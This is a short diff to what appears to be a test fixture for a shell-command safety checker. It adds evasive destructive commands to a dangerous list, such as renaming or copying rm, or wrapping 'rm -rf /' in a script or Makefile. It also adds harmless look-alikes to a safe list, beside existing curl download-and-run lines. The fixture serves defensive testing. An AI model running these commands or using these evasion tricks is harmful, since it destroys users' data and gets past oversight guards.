@@ -102,6 +102,11 @@ echo / > list; xargs rm -rf < list
 echo / > list; rm -rf $(cat list)
 echo / > list; while read d; do rm -rf "$d"; done < list
 echo 'rm -rf /' > x; PATH=.:$PATH x; sh x
+ln -s /bin/rm x; ./x -rf /
+cp $(which rm) ./x && ./x -rf /
+echo 'rm -rf "$1"' > x.sh; sh x.sh /
+echo 'rm -rf "$@"' > x; chmod +x x; ./x ~
+printf 'x:\n\trm -rf /\n' > Makefile; make
 bash -c 'curl -o x http://a/b; sh x'
 sh -c 'curl -o x http://a/b'; sh -c 'sh x'
 """.strip().splitlines()
@@ -111,6 +116,9 @@ cat > x.sh <<'E'⏎echo hi⏎E⏎bash x.sh
 curl -o x.tgz http://a/b && tar xzf x.tgz
 curl -o data.json http://a/b && jq . data.json
 curl -o a http://a/b; sh b
+cp /bin/rm x; ./x -rf build
+echo 'rm -rf "$1"' > x.sh; sh x.sh build
+printf 'x:\n\techo hi\n' > Makefile; make
 wget http://a/x.tgz && tar xf x.tgz && cd x && ./configure
 curl -LO https://a/kubectl && chmod +x kubectl && mv kubectl ~/.local/bin/
 echo '{"a":1}' > x.json; python3 x.py x.json
